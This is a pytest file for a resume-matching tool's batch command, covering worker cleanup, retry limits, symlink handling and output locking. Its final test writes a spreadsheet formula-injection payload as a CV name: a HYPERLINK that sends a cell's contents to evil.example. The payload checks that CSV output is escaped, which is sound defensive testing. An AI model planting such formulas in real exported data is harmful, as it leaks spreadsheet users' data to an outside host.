"""Batches against hostile conditions (issue 16): a killed parent must take its workers with it,
failures that repeat are not retried forever, links out of the folder are not followed, and
two batches never write one --out at once."""
from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
import time
from functools import partial
from pathlib import Path

import pytest
from click.testing import CliRunner

from faulty_workers import hang_on
from resume_match.batch.folder import analyse_folder, batch_lock, scan_folder
from resume_match.cli import main
from resume_match.batch.tasks import FileTask, fault_row
from resume_match.extract.text import read_text
from test_batch import text_cv

TESTS = Path(__file__).parent


def _stat(pid: int) -> tuple[int, str, str] | None:
    """(parent pid, state, start time) of a process, or None when it is gone."""
    try:
        raw = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return None
    fields = raw[raw.rindex(")") + 2:].split()
    return int(fields[1]), fields[0], fields[19]


def _descendants(root: int) -> dict[int, str]:
    """pid -> start time of every living process below `root` (a /proc scan, no psutil)."""
    parents: dict[int, int] = {}
    started: dict[int, str] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit() and (st := _stat(int(entry))):
            parents[int(entry)], started[int(entry)] = st[0], st[2]
    out: dict[int, str] = {}
    grew = True
    while grew:
        grew = False
        for pid, ppid in parents.items():
            if pid not in out and (ppid == root or ppid in out):
                out[pid] = started[pid]
                grew = True
    return out


def _cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()[:200]
    except OSError:
        return "?"


def _alive(pid: int, started: str) -> bool:
    """The same process (same start time) is still running (a zombie is dead)."""
    st = _stat(pid)
    return st is not None and st[2] == started and st[1] != "Z"


BATCH = textwrap.dedent("""
    import sys
    from functools import partial
    sys.path.insert(0, {tests!r})
    from faulty_workers import spin_on
    from resume_match.batch.folder import analyse_folder
    analyse_folder({src!r}, ["data-scientist"], out_dir={out!r}, workers=2, timeout=600,
                   _analyse=partial(spin_on, "spin.txt"))
""")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_killing_the_batch_kills_its_workers_even_one_stuck_in_c(tmp_path: Path) -> None:
    src = tmp_path / "in"
    src.mkdir()
    for name in ("a.txt", "spin.txt", "z.txt"):
        (src / name).write_text(text_cv("Cara Dunn", "cara@example.com") + f"\n{name}\n")
    pid_file = tmp_path / "spinning.pid"
    script = BATCH.format(tests=str(TESTS), src=str(src), out=str(tmp_path / "out"))
    parent = subprocess.Popen([sys.executable, "-c", script],
                              env={**os.environ, "RM_SPIN_PID_FILE": str(pid_file)})
    family: dict[int, str] = {}
    try:
        deadline = time.monotonic() + 120
        while not pid_file.exists() and time.monotonic() < deadline and parent.poll() is None:
            time.sleep(0.1)
        assert pid_file.exists(), "the worker never reached the spinning file"
        time.sleep(0.5)
        family.update(_descendants(parent.pid))
        spinning = int(pid_file.read_text())
        assert spinning in family and len(family) >= 3   # forkserver, tracker, workers
        parent.send_signal(signal.SIGKILL)
        parent.wait(10)
        time.sleep(5)
        left = {pid: _cmdline(pid) for pid, started in family.items() if _alive(pid, started)}
        assert not left, f"alive 5 s after the parent was killed: {left}"
    finally:
        if parent.poll() is None:
            parent.kill()
            parent.wait()
        for pid, started in family.items():     # never leave one running, pass or fail
            if _alive(pid, started):
                os.kill(pid, signal.SIGKILL)


# ---------------------------------------------------------------- failures that repeat

def _three(src: Path, middle: str) -> Path:
    src.mkdir(parents=True)
    for name in ("a.txt", middle, "z.txt"):
        (src / name).write_text(text_cv("Cara Dunn", "cara@example.com") + f"\n{name}\n")
    return src


def test_a_file_that_times_out_twice_is_not_retried_by_a_third_resume(tmp_path: Path) -> None:
    src, out = _three(tmp_path / "in", "slow.txt"), tmp_path / "out"
    run = partial(analyse_folder, src, ["data-scientist"], out_dir=out, workers=1, timeout=2,
                  _analyse=partial(hang_on, "slow.txt"))
    first = {r.file: r for r in run().rows}["slow.txt"]
    assert first.status == "error" and first.transient          # may be a passing hiccup
    second_run = run(resume=True)
    assert second_run.analysed == 1                              # tried once more
    second = {r.file: r for r in second_run.rows}["slow.txt"]
    assert not second.transient and "failed the same way before" in second.error
    started = time.monotonic()
    third_run = run(resume=True)
    assert third_run.analysed == 0 and time.monotonic() - started < 2   # no time limit spent
    assert {r.file: r for r in third_run.rows}["slow.txt"] == second


def test_a_reader_traceback_is_an_input_error_and_a_later_one_transient() -> None:
    task = FileTask(path="/x/cv.txt", file="cv.txt", sha256="0" * 64)
    try:
        read_text(None, "cv.txt")              # type: ignore[arg-type]  # breaks inside extract/
    except Exception as e:
        reading = fault_row(task, e)
    try:
        raise ValueError("a fault in scoring")
    except ValueError as e:
        later = fault_row(task, e)
    assert not reading.transient and reading.error.startswith("cv.txt: cannot read this file (")
    assert later.transient and "internal error (ValueError: a fault in scoring)" in later.error


# ---------------------------------------------------------------- links and the --out lock

def test_links_out_of_the_folder_are_not_followed_unless_asked(tmp_path: Path) -> None:
    src, elsewhere = _three(tmp_path / "in", "b.txt"), tmp_path / "elsewhere"
    (elsewhere / "deep").mkdir(parents=True)
    (elsewhere / "secret.txt").write_text("root:x:0:0:root:/root:/bin/bash\n")
    (elsewhere / "deep" / "other.txt").write_text(text_cv("Bo Lind", "bo@example.com"))
    (src / "passwd.txt").symlink_to(elsewhere / "secret.txt")
    (src / "linked").symlink_to(elsewhere / "deep", target_is_directory=True)
    (src / "same.txt").symlink_to(src / "a.txt")          # inside the folder: kept
    (src / "loop").symlink_to(src, target_is_directory=True)
    names = {p.relative_to(src).as_posix() for p in scan_folder(src)}
    assert names == {"a.txt", "b.txt", "z.txt", "same.txt"}
    followed = {p.relative_to(src).as_posix() for p in scan_folder(src, follow_links=True)}
    assert followed == names | {"passwd.txt", "linked/other.txt"}
    res = CliRunner().invoke(main, ["batch", str(src), "--role", "data-scientist", "--out",
                                    str(tmp_path / "out"), "--workers", "1", "--quiet"])
    assert res.exit_code == 0, res.output
    assert "passwd" not in (tmp_path / "out" / "results.csv").read_text()


def test_a_second_batch_on_the_same_out_is_refused(tmp_path: Path) -> None:
    src, out = _three(tmp_path / "in", "b.txt"), tmp_path / "out"
    with batch_lock(out):                  # a batch running on `out`
        res = CliRunner().invoke(main, ["batch", str(src), "--role", "data-scientist", "--out",
                                        str(out), "--workers", "1", "--quiet"])
        assert res.exit_code == 3
        message = res.output.strip().splitlines()
        assert len(message) == 1 and "another batch is writing this folder" in message[0]
        assert not (out / "results.csv").exists() and not (out / "batch.json").exists()
    res = CliRunner().invoke(main, ["batch", str(src), "--role", "data-scientist", "--out",
                                    str(out), "--workers", "1", "--quiet"])
    assert res.exit_code == 0 and (out / "results.csv").exists()


def test_text_a_spreadsheet_would_run_as_a_formula_is_quoted_in_the_csv(tmp_path: Path) -> None:
    """A CV named '=HYPERLINK(...)' (the name line and the file name): results.csv gives both
    with a leading apostrophe, so a spreadsheet shows them as text; numbers stay numbers."""
    import csv
    src = tmp_path / "in"
    src.mkdir()
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    (src / "=1+1.txt").write_text(text_cv("Bo Lind", "bo@example.com").replace("Bo Lind", name, 1))
    (src / "@cmd.txt").write_text(text_cv("Cy Moss", "cy@example.com"))
    res = CliRunner().invoke(main, ["batch", str(src), "--role", "data-scientist", "--out",
                                    str(tmp_path / "out"), "--workers", "1", "--quiet"])
    assert res.exit_code == 0, res.output
    with open(tmp_path / "out" / "results.csv", newline="") as fh:
        rows = {r["file"]: r for r in csv.DictReader(fh)}
    assert set(rows) == {"'=1+1.txt", "'@cmd.txt"}
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows.values() for cell in r.values())
    assert float(rows["'@cmd.txt"]["best_score"]) >= 0
